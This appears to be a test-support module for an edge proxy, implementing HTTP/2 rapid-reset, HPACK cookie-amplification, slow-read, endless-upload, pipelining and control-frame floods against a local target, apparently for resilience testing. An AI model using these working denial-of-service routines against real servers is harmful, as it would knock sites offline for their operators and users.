/** Floods by one client. Each goes on until its signal is aborted, and then leaves nothing open but what it is about. */
import { once } from 'node:events'
import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import tls from 'node:tls'
import { GOOGLEBOT, PERSON } from '../support/edge-request.ts'
import { END_HEADERS, END_STREAM, FRAME, frame, setting, uint32 } from '../support/http2-frames.ts'

export type Target = {
  port: number
  tlsPort: number
  /** The site that is asked for, which belongs to another customer than the one that is looked after. */
  host: string
  /** The address that the flood comes from. */
  from: string
}

/** Returns how many requests or frames were sent. */
type Attack = (target: Target, signal: AbortSignal) => Promise<number>

/** How many connections a flood of HTTP/2 has open. */
const SESSIONS = 8
const STREAMS = 100
const RESETS_A_SESSION = 190
const LARGEST_WINDOW = 2 ** 31 - 1
/** Between two batches of a connection, so that it reads what comes back. */
const PAUSE_MS = 1
const RECONNECT_MS = 5

export const ATTACKS = {
  /** One entry of the table of HPACK, named many times in each request. The client acknowledges no settings. */
  'cookie crumbs': (target, signal) => cookieCrumbs(target, signal),
  'rapid reset of misses': (target, signal) => rapidReset(target, signal, GOOGLEBOT),
  'rapid reset of passed requests': (target, signal) => rapidReset(target, signal, PERSON),
  'misses that the site answers slowly': (target, signal) => slowMisses(target, signal),
  'slow reading of passed answers': (target, signal) => slowReading(target, signal),
  'HTTP/2 clients that vanish': (target, signal) => vanishing(target, signal),
  'endless uploads': (target, signal) => endlessUploads(target, signal),
  'pipelined requests of people': (target, signal) => pipelined(target, signal),
  'pings and settings': (target, signal) => controlFrames(target, signal),
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof ATTACKS

async function cookieCrumbs(target: Target, signal: AbortSignal): Promise<number> {
  const crumb = 'c'.repeat(4_000)
  const literal = Buffer.concat([Buffer.from([0x40]), text('cookie'), text(crumb)])
  // The newest entry of the dynamic table (RFC 7541, section 2.3.3).
  const named = Buffer.alloc(190, 0x80 | 62)
  return sessions(target, signal, async (session) => {
    for (let stream = 1; session.isOpen && !signal.aborted; stream += 2) {
      const block = [requestBlock(target, '/slow', PERSON)]
      block.push(stream === 1 ? literal : named)
      session.send(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, Buffer.concat(block)))
      if (stream % (2 * STREAMS) === 1) await sleep(PAUSE_MS)
    }
  })
}

async function rapidReset(target: Target, signal: AbortSignal, userAgent: string): Promise<number> {
  let path = 0
  return sessions(target, signal, async (session) => {
    const reset = uint32(8)
    for (let count = 0; session.isOpen && !signal.aborted && count < RESETS_A_SESSION; count++) {
      const stream = 2 * count + 1
      const block = requestBlock(target, `/flood-${process.pid}-${path++}`, userAgent)
      session.send(
        frame(FRAME.headers, END_STREAM | END_HEADERS, stream, block),
        frame(FRAME.reset, 0, stream, reset),
      )
    }
    await sleep(PAUSE_MS)
  })
}

async function slowMisses(target: Target, signal: AbortSignal): Promise<number> {
  let path = 0
  return sessions(target, signal, async (session) => {
    const open = new Set<number>()
    session.onEnd = (stream) => void open.delete(stream)
    for (let stream = 1; session.isOpen && !signal.aborted; ) {
      if (open.size >= STREAMS / 2) await sleep(10)
      else {
        open.add(stream)
        const block = requestBlock(target, `/slow-${process.pid}-${path++}`, GOOGLEBOT)
        session.send(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, block))
        stream += 2
      }
    }
  })
}

async function slowReading(target: Target, signal: AbortSignal): Promise<number> {
  const CONNECTIONS = 900
  let sent = 0
  const read = async () => {
    while (!signal.aborted) {
      const socket = net.connect({ port: target.port, host: '127.0.0.1', localAddress: target.from })
      const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()))
      socket.on('error', () => {}).pause()
      signal.addEventListener('abort', () => socket.destroy(), { once: true })
      socket.write(
        `GET /large HTTP/1.1\r\nHost: ${target.host}\r\nUser-Agent: ${PERSON}\r\nConnection: close\r\n\r\n`,
      )
      sent++
      const reading = setInterval(() => socket.read(1_024), 1_000)
      await ended
      clearInterval(reading)
      if (!signal.aborted) await sleep(100)
    }
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, read))
  return sent
}

/** The connections read nothing after their requests, and stay open when the flood has ended. */
async function vanishing(target: Target, signal: AbortSignal): Promise<number> {
  let sent = 0
  for (let count = 0; count < 3; count++) {
    const session = await openSession(target, signal, { isKept: true })
    if (session === null) continue
    session.send(
      frame(FRAME.settings, 0, 0, setting(4, LARGEST_WINDOW)),
      frame(WINDOW_UPDATE, 0, 0, uint32(LARGEST_WINDOW - 65_535)),
    )
    for (let stream = 1; stream < 2 * 64; stream += 2) {
      const block = requestBlock(target, '/large', PERSON)
      session.send(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, block))
      sent++
    }
    session.stopReading()
  }
  if (!signal.aborted) await once(signal, 'abort')
  return sent
}

async function endlessUploads(target: Target, signal: AbortSignal): Promise<number> {
  const CONNECTIONS = 180
  const PART = Buffer.alloc(64 * 1024)
  let sent = 0
  const upload = async () => {
    const socket = net.connect({ port: target.port, host: '127.0.0.1', localAddress: target.from })
    const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    socket.on('error', () => {}).resume()
    signal.addEventListener('abort', () => socket.destroy(), { once: true })
    socket.write(
      `POST /unread HTTP/1.1\r\nHost: ${target.host}\r\nUser-Agent: ${PERSON}\r\nTransfer-Encoding: chunked\r\n\r\n`,
    )
    const pour = () => {
      while (!socket.destroyed && socket.write(`${PART.length.toString(16)}\r\n`)) {
        socket.write(PART)
        socket.write('\r\n')
        sent++
      }
    }
    socket.on('drain', pour)
    pour()
    await ended
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, upload))
  return sent
}

async function pipelined(target: Target, signal: AbortSignal): Promise<number> {
  const CONNECTIONS = 8
  const one = `GET / HTTP/1.1\r\nHost: ${target.host}\r\nUser-Agent: ${PERSON}\r\n\r\n`
  const many = Buffer.from(one.repeat(STREAMS))
  let sent = 0
  const pour = async () => {
    while (!signal.aborted) {
      const socket = net.connect({ port: target.port, host: '127.0.0.1', localAddress: target.from })
      const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()))
      socket.on('error', () => {}).resume()
      const stop = () => void socket.destroy()
      signal.addEventListener('abort', stop, { once: true })
      const write = () => {
        while (!socket.destroyed && socket.write(many)) sent += STREAMS
      }
      socket.on('drain', write)
      socket.on('connect', write)
      await ended
      signal.removeEventListener('abort', stop)
      await sleep(RECONNECT_MS)
    }
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, pour))
  return sent
}

async function controlFrames(target: Target, signal: AbortSignal): Promise<number> {
  const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8))
  const settings = frame(FRAME.settings, 0, 0)
  return sessions(target, signal, async (session) => {
    while (session.isOpen && !signal.aborted) {
      for (let count = 0; count < STREAMS; count++) session.send(ping, settings)
      await sleep(PAUSE_MS)
    }
  })
}

const WINDOW_UPDATE = 8

type Session = {
  readonly isOpen: boolean
  /** Called with each stream that ends. */
  onEnd: (stream: number) => void
  send(...frames: Buffer[]): void
  stopReading(): void
  close(): void
}

/** Keeps connections open, each with a new `act` when the one before has ended. Returns how many frames were sent. */
async function sessions(
  target: Target,
  signal: AbortSignal,
  act: (session: Session) => Promise<void>,
): Promise<number> {
  let sent = 0
  const attack = async () => {
    while (!signal.aborted) {
      const session = await openSession(target, signal, { onSent: (frames) => (sent += frames) })
      if (session === null) {
        await sleep(RECONNECT_MS)
        continue
      }
      await act(session)
      session.close()
    }
  }
  await Promise.all(Array.from({ length: SESSIONS }, attack))
  return sent
}

/** Returns null if the edge refuses the connection. */
async function openSession(
  target: Target,
  signal: AbortSignal,
  { isKept = false, onSent = () => {} }: { isKept?: boolean; onSent?(frames: number): void } = {},
): Promise<Session | null> {
  const tcp = net.connect({ port: target.tlsPort, host: '127.0.0.1', localAddress: target.from })
  const options = { servername: target.host, rejectUnauthorized: false, ALPNProtocols: ['h2'] }
  const socket = tls.connect({ socket: tcp, ...options })
  const opened = await new Promise<boolean>((resolve) => {
    socket.once('secureConnect', () => resolve(true))
    socket.once('close', () => resolve(false))
    socket.on('error', () => resolve(false))
    tcp.on('error', () => resolve(false))
    signal.addEventListener('abort', () => resolve(false), { once: true })
  })
  if (!opened) {
    socket.destroy()
    return null
  }
  const session: Session = {
    get isOpen() {
      return !socket.destroyed && socket.writable
    },
    onEnd: () => {},
    send(...frames) {
      onSent(frames.length)
      if (socket.writable) socket.write(Buffer.concat(frames))
    },
    stopReading: () => void socket.pause(),
    close: () => void socket.destroy(),
  }
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  socket.write(frame(FRAME.settings, 0, 0))
  let rest = Buffer.alloc(0)
  socket.on('data', (part: Buffer) => {
    rest = Buffer.concat([rest, part])
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const length = rest.readUIntBE(0, 3)
      const isEnd = rest[3] === FRAME.reset || (rest[3]! <= FRAME.headers && (rest[4]! & END_STREAM) !== 0)
      if (isEnd) session.onEnd(rest.readUInt32BE(5) & 0x7fffffff)
      rest = rest.subarray(9 + length)
    }
  })
  if (!isKept) signal.addEventListener('abort', () => socket.destroy(), { once: true })
  return session
}

function requestBlock({ host }: Target, path: string, userAgent: string): Buffer {
  const headers = [
    [':method', 'GET'],
    [':scheme', 'https'],
    [':authority', host],
    [':path', path],
    ['user-agent', userAgent],
  ] as const
  return Buffer.concat(headers.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]))
}

/** A string without Huffman coding (RFC 7541, sections 5.1 and 5.2). */
function text(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1')
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes])
  const length = [127]
  let left = bytes.length - 127
  while (left >= 128) {
    length.push((left % 128) + 128)
    left = Math.floor(left / 128)
  }
  length.push(left)
  return Buffer.concat([Buffer.from(length), bytes])
}
